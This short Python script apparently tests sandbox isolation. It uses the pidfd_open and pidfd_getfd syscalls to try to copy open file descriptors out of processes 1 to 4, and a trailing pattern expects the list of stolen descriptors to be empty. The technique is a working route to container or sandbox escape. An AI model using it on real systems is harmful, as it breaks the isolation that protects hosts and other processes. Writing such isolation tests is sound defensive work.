"""Takes open files out of other processes: a folder of the machine is a way out."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
got = []
for process in range(1, 5):
    handle = libc.syscall(434, process, 0)  # pidfd_open
    for number in range(64) if handle >= 0 and process != os.getpid() else ():
        taken = libc.syscall(438, handle, number, 0)  # pidfd_getfd
        if taken >= 0:
            got.append(f"{process}.{number}")
raise RuntimeError(f"got={got}")

#: got=\[\]
